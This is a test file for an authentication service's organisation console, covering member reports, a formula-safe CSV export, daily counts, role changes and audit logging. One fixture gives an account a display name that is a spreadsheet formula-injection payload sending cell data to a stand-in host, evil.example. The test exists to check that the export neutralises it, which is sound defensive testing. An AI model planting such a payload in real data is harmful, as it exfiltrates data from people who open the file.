import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DAY } from '../../src/kernel/clock.ts';
import { snapshotCompliance } from '../../src/organisations/daily-counts.ts';
import { savePolicy } from '../../src/organisations/org-admin.ts';
import { DEFAULT_POLICY } from '../../src/organisations/policy.ts';
import { countsOverTime, csvSafe } from '../../src/organisations/reports.ts';
import { listOrgAudit } from '../../src/organisations/store/audit.ts';
import { findMember } from '../../src/organisations/store/members.ts';
import type { StoreKind } from '../support/databases.ts';
import { createTestApp, signedUpAccount, type TestApp, verifiedEmail } from '../support/harness.ts';
import { accountIn, orgWithAdmin, TEST_OPERATOR } from '../support/orgs.ts';
import { formClient } from '../web/browser-less-client.ts';

/** The members report, its CSV export, the counts over time and the audit log of the organisation console. */
describe.each<StoreKind>(['pglite', 'postgres'])('organisation reports (HTTP) on %s', (store) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ store });
  });
  afterAll(() => t.close());

  const web = (token: string, lang: 'ja' | 'en' = 'ja') => {
    const c = formClient(t, { 'accept-language': lang });
    c.jar.set('mamori_session', token);
    return c;
  };
  const idOf = async (token: string) =>
    (await t.api('GET', '/api/v1/me', undefined, token)).body.id as string;

  /** An organisation whose policy wants 2 methods: the admin (2 contacts) meets it, two members do not. */
  async function orgWithMembers() {
    const o = await orgWithAdmin(t);
    const plain = await accountIn(t, o.domain, { local: 'plain' });
    const withOne = await accountIn(t, o.domain, { local: 'one' });
    await verifiedEmail(t, withOne.token);
    // A name an attacker chose to run a formula in whoever opens the CSV.
    const evil = await signedUpAccount(t, {
      email: `evil@${o.domain}`,
      displayName: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    });
    await savePolicy(t.app.deps, TEST_OPERATOR, o.orgId, 1, { ...DEFAULT_POLICY, minMethods: 2 });
    return { ...o, plain, withOne, evil };
  }

  it('lists every member with methods by kind, policy met or not, and filters by the query string', async () => {
    const o = await orgWithMembers();
    const c = web(o.admin.token);
    const all = await c.get('/org/members');
    expect(all.statusCode).toBe(200);
    expect(all.body).toContain('4 人を表示しています。');
    const row = (body: string, email: string) => {
      const i = body.indexOf(`>${email}</a>`);
      return body.slice(i, body.indexOf('</tr>', i));
    };
    expect(row(all.body, o.admin.email)).toContain('メール 2');
    expect(row(all.body, o.admin.email)).toContain('はい');
    expect(row(all.body, o.withOne.email)).toContain('メール 1');
    expect(row(all.body, o.withOne.email)).toContain('いいえ');
    expect(all.body).toContain(`href="/org/members/${await idOf(o.plain.token)}"`);

    const notMet = await c.get('/org/members?met=not_met');
    expect(notMet.body).toContain('3 人を表示しています。');
    expect(notMet.body).not.toContain(`>${o.admin.email}</a>`);
    const admins = await c.get('/org/members?role=org_admin');
    expect(admins.body).toContain('1 人を表示しています。');
    const noPhone = await c.get('/org/members?lacks=phone&met=met');
    expect(noPhone.body).toContain('1 人を表示しています。');
    // An unknown filter value filters nothing.
    expect((await c.get('/org/members?role=owner')).body).toContain('4 人を表示しています。');
    // The CSV link keeps the filters.
    expect(notMet.body).toContain('href="/org/members.csv?met=not_met"');
  });

  it('an authentication admin sees the directory without compliance columns and no CSV', async () => {
    const o = await orgWithAdmin(t, { role: 'auth_admin' });
    const c = web(o.admin.token);
    const r = await c.get('/org/members?met=not_met');
    expect(r.statusCode).toBe(200);
    expect(r.body).not.toContain('members.csv');
    expect(r.body).not.toContain('ポリシー</th>');
    expect((await c.get('/org/members.csv')).statusCode).toBe(403);
  });

  it('exports the report as CSV: UTF-8 with BOM, localised header, same filters, attachment, formula-safe, audited', async () => {
    const o = await orgWithMembers();
    const res = await web(o.admin.token).get('/org/members.csv?met=not_met');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(String(res.headers['content-disposition'])).toMatch(
      /^attachment; filename="members-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const bytes = res.rawPayload;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    const lines = text.split('\r\n').filter(Boolean);
    expect(lines[0]).toBe(
      'サインイン用のメールアドレス,名前,役割,パスキー,認証アプリ,電話番号（SMS）,メールアドレス（メールのコード）,最後の確認,ポリシー,延期した回数',
    );
    expect(lines).toHaveLength(4); // header + the three members who do not meet the policy
    expect(text).not.toContain(o.admin.email);
    const evilLine = lines.find((l) => l.startsWith(`evil@${o.domain}`))!;
    // The name is quoted text starting with an apostrophe: a spreadsheet shows it, never runs it.
    expect(evilLine).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(evilLine).toMatch(/,メンバー,0,0,0,0,,いいえ,0$/);

    const audit = await listOrgAudit(t.app.deps.db, o.orgId, 1);
    expect(audit[0]).toMatchObject({
      action: 'report.exported',
      actorKind: 'admin',
      actorId: o.admin.accountId,
      detail: { rows: '3', filter: '?met=not_met' },
    });

    const en = await web(o.admin.token, 'en').get('/org/members.csv?lang=en');
    expect(en.rawPayload.subarray(3).toString('utf8').split('\r\n')[0]).toBe(
      'Sign-in address,Name,Role,Passkeys,Authenticator apps,Phones (text messages),Email addresses (email codes),Last confirmed,Policy met,Snoozes used',
    );
  });

  it('guards every formula start, half- and full-width', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '＝1', '＋1', '－1', '＠A'])
      expect(csvSafe(s).startsWith("'")).toBe(true);
    expect(csvSafe('山田 太郎')).toBe('山田 太郎');
    expect(csvSafe('a=b')).toBe('a=b');
  });

  it('counts over time: methods added by members (not by outsiders) and the daily compliance snapshot', async () => {
    const o = await orgWithMembers();
    const today = t.clock.now().toISOString().slice(0, 10);
    await snapshotCompliance(t.app.deps);
    const r = await web(o.admin.token).get('/org/reports');
    expect(r.statusCode).toBe(200);
    const row = r.body.slice(r.body.indexOf(`data-day="${today}"`));
    const cells = row.slice(0, row.indexOf('</tr>'));
    // 4 members, 1 meets the policy; 3 methods added today (the admin's 2 contacts and one member's).
    expect(cells).toContain('4 人中 1 人');
    expect(cells).toMatch(/<td[^>]*>3<\/td><td[^>]*>0<\/td><td[^>]*>0<\/td>$/);

    // Someone outside any organisation adds a method: no organisation counts it.
    const outsider = await signedUpAccount(t);
    await verifiedEmail(t, outsider.token);
    const again = await web(o.admin.token).get('/org/reports');
    const cells2 = again.body.slice(again.body.indexOf(`data-day="${today}"`));
    expect(cells2.slice(0, cells2.indexOf('</tr>'))).toMatch(
      /<td[^>]*>3<\/td><td[^>]*>0<\/td><td[^>]*>0<\/td>$/,
    );

    // Later today the member meets the policy; the next day's snapshot says so, today's stays as counted.
    await verifiedEmail(t, o.withOne.token);
    t.clock.advance(DAY);
    await snapshotCompliance(t.app.deps);
    // (The admin's session has ended by now: the counts are read directly.)
    const [yesterday, tomorrowCounts] = await countsOverTime(t.app.deps, o.orgId, 2);
    // Days before the organisation existed are not listed (it was created the day before).
    expect(await countsOverTime(t.app.deps, o.orgId, 30)).toHaveLength(2);
    expect(tomorrowCounts).toMatchObject({
      compliant: 2,
      members: 4,
      methodsAdded: 0,
      resets: 0,
      recoveries: 0,
    });
    expect(yesterday).toMatchObject({ day: today, compliant: 1, members: 4, methodsAdded: 4 });
    // The days since the organisation was created are shown (of the last thirty): today only, on that page.
    expect(r.body.match(/data-day="/g)).toHaveLength(1);
  });

  it('a password reset by a member counts as a reset of the day; one by an outsider counts nowhere', async () => {
    const o = await orgWithAdmin(t);
    const reset = async (a: { email: string; token: string }) => {
      const contact = `reset.${Math.random().toString(36).slice(2, 8)}@example.com`;
      const methodId = await verifiedEmail(t, a.token, contact);
      t.clock.advance(61_000);
      const flowToken = (await t.api('POST', '/api/v1/password-reset', { email: a.email })).body.flowToken;
      expect(
        (await t.api('POST', '/api/v1/password-reset/choose', { flowToken, methodId, confirm: contact }))
          .status,
      ).toBe(200);
      const code = await t.mailedCode(contact);
      expect((await t.api('POST', '/api/v1/password-reset/verify', { flowToken, code })).status).toBe(204);
      const done = await t.api('POST', '/api/v1/password-reset/complete', {
        flowToken,
        password: 'a brand new passphrase 77',
      });
      expect(done.status).toBe(200);
    };
    await reset(await accountIn(t, o.domain));
    await reset(await signedUpAccount(t));
    const [today] = await countsOverTime(t.app.deps, o.orgId, 1);
    expect(today).toMatchObject({ resets: 1, recoveries: 0 });
  });

  it('a member who uses their recovery code counts as a recovery of the day', async () => {
    const o = await orgWithAdmin(t);
    const m = await accountIn(t, o.domain);
    await verifiedEmail(t, m.token);
    const made = await t.api('POST', '/api/v1/recovery-code', {}, m.token);
    expect(made.status).toBe(200);
    const flowToken = (await t.api('POST', '/api/v1/password-reset', { email: m.email })).body.flowToken;
    const used = await t.api('POST', '/api/v1/password-reset/recovery-code', {
      flowToken,
      recoveryCode: made.body.recoveryCode,
    });
    expect(used.status).toBe(200);
    const [today] = await countsOverTime(t.app.deps, o.orgId, 1);
    expect(today?.recoveries).toBe(1);
  });

  it('a reader sees reports and the audit log but cannot change roles', async () => {
    const o = await orgWithAdmin(t, { role: 'reader' });
    const c = web(o.admin.token);
    expect((await c.get('/org/reports')).statusCode).toBe(200);
    expect((await c.get('/org/audit')).statusCode).toBe(200);
    const m = await c.get('/org/members');
    expect(m.body).not.toContain('data-testid="role-form"');
    const member = await accountIn(t, o.domain);
    const r = await c.post('/org/members/role', { email: member.email, role: 'org_admin' });
    expect(r.statusCode).toBe(403);
  });

  it('an organisation admin changes a role; the last organisation admin cannot be demoted', async () => {
    const o = await orgWithAdmin(t);
    const member = await accountIn(t, o.domain);
    const c = web(o.admin.token);
    await c.get('/org/members');
    const r = await c.post('/org/members/role', { email: member.email, role: 'reader' });
    expect(r.statusCode).toBe(200);
    expect(r.body).toContain(`${member.email} を閲覧者にしました。`);
    const last = await c.post('/org/members/role', { email: o.admin.email, role: 'member' });
    expect(last.statusCode).toBe(409);
    expect(last.body).toContain('組織管理者');
    const audit = await web(o.admin.token).get('/org/audit');
    expect(audit.body).toContain('役割を変更');
    expect(audit.body).toContain('役割：メンバー → 閲覧者');
  });

  it('an admin cannot pull an account outside the organisation in by naming it', async () => {
    const o = await orgWithAdmin(t);
    const outsider = await signedUpAccount(t);
    const c = web(o.admin.token);
    await c.get('/org/members');
    const r = await c.post('/org/members/role', { email: outsider.email, role: 'member' });
    expect(r.statusCode).toBe(404);
    expect(r.body).toContain('data-testid="role-error"');
    expect(await findMember(t.app.deps.db, await idOf(outsider.token))).toBeUndefined();
  });

  it('an admin cannot change a role in another organisation', async () => {
    const mine = await orgWithAdmin(t);
    const theirs = await orgWithAdmin(t);
    const c = web(mine.admin.token);
    await c.get('/org/members');
    const r = await c.post('/org/members/role', { email: theirs.admin.email, role: 'member' });
    // Told it is not a member (not which organisation it belongs to).
    expect(r.statusCode).toBe(404);
    expect(r.body).toContain('data-testid="role-error"');
    expect(await findMember(t.app.deps.db, theirs.admin.accountId)).toMatchObject({
      org_id: theirs.orgId,
      role: 'org_admin',
    });
  });

  it('the audit log pages back, newest first', async () => {
    const o = await orgWithAdmin(t);
    const { recordOrgAudit } = await import('../../src/organisations/audit.ts');
    for (let i = 0; i < 55; i++)
      await recordOrgAudit(t.app.deps, t.app.deps.db, {
        orgId: o.orgId,
        actor: TEST_OPERATOR,
        action: 'member.joined',
        target: `m${i}@${o.domain}`,
      });
    const c = web(o.admin.token);
    const first = await c.get('/org/audit');
    expect(first.body.match(/data-action="/g)).toHaveLength(50);
    const older = first.body.match(/href="(\/org\/audit\?before=\d+)"/)?.[1];
    expect(older).toBeDefined();
    // A refused attempt shows as refused, with what was attempted.
    const { auditRefusal } = await import('../../src/organisations/admin-access.ts');
    await auditRefusal(
      t.app.deps,
      {
        orgId: o.orgId,
        orgName: '',
        orgContact: '',
        accountId: o.admin.accountId,
        role: 'org_admin',
        actor: { kind: 'admin', id: o.admin.accountId, name: o.admin.email },
      },
      'member.password_reset',
      'someone@else.example.jp',
    );
    const withRefusal = await c.get('/org/audit');
    const refused = withRefusal.body.slice(withRefusal.body.indexOf('data-outcome="refused"'));
    expect(refused.slice(0, refused.indexOf('</tr>'))).toMatch(
      /操作を拒否.*someone@else\.example\.jp.*拒否.*試みた操作：仮のパスワードを設定/s,
    );
    const second = await c.get(older!);
    // 55 entries, the admin's joining, the domain and the creation: 58 in all.
    expect(second.body.match(/data-action="/g)).toHaveLength(8);
    expect(second.body).toContain('組織を作成');
    expect(second.body).not.toContain('data-testid="audit-older"');
  });
});
